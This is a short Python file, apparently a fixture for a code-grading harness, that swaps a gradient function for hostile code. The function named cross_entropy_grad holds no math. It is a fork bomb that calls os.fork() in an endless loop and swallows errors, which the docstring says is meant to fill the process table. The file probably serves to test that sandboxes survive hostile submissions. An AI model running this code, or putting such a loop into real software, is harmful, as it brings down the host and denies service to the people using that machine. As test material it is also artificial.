"""cross_entropy_grad forks until the process table is full, and keeps trying.

base: solution
splice: replace
loses: cross_entropy_grad_values cross_entropy_grad_hidden
"""
import os


def cross_entropy_grad(z, labels, label_smoothing=0.0):
    while True:
        try:
            os.fork()
        except OSError:
            pass
